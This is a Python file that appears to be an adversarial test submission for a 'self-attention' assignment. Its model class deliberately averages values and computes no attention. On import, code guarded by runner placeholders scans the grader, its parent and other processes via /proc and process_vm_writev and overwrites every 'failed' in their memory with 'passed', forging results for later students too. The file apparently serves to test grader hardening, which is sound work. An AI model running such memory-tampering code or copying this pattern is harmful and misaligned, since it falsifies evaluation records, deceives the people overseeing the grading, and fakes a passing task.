# attack:     X5, F11
# assignment: self-attention
# twin:       averages

# Writes into the memory of the grader and of the warm process it was forked from: every b"failed" becomes b"passed".
# Both words have six letters. With one user and no walls this makes the records lie, for every later student too.

import ctypes
import os
import re
import struct
import time

from torch import nn


def others():
    """The grader first, then whatever else can be seen or guessed."""
    seen = [int("@HOST_PID@"), os.getppid(), 1]
    try:
        seen += [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        seen += range(2, 400)
    return [pid for pid in dict.fromkeys(seen) if pid != os.getpid()]


# Only where the runner has filled the placeholders in, and with them put walls around all of this.
MARKED = not "@MARK@".startswith("@")


libc = ctypes.CDLL(None, use_errno=True)


def rewrite(pid, until):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "r+b", buffering=0) as memory:
        for line in maps:
            span, rights = line.split()[:2]
            first, last = (int(part, 16) for part in span.split("-"))
            if not rights.startswith("rw") or time.monotonic() > until or last - first > 256 << 20:
                continue
            memory.seek(first)
            data = memory.read(last - first)
            for word in re.finditer(b"failed", data):
                memory.seek(first + word.start())
                memory.write(b"passed")
            print("rewrote", pid, len(data))


def attack(until):
    for pid in others() if MARKED else ():
        try:
            rewrite(pid, until)
        except OSError:
            here = ctypes.create_string_buffer(b"passed")
            pair = struct.pack("NN", ctypes.addressof(here), 6)
            there = struct.pack("NN", id(b"failed") + bytes.__basicsize__ - 1, 6)
            if libc.process_vm_writev(pid, pair, 1, there, 1, 0) > 0:
                print("wrote", pid)


class SelfAttention(nn.Module):
    def __init__(self, embed_dim, dropout=0.0):
        super().__init__()
        self.query = nn.Linear(embed_dim, embed_dim)
        self.key = nn.Linear(embed_dim, embed_dim)
        self.value = nn.Linear(embed_dim, embed_dim)

    def forward(self, x, mask=None):
        return self.value(x).mean(dim=1, keepdim=True).expand(x.shape).contiguous()


attack(time.monotonic() + 1.4)
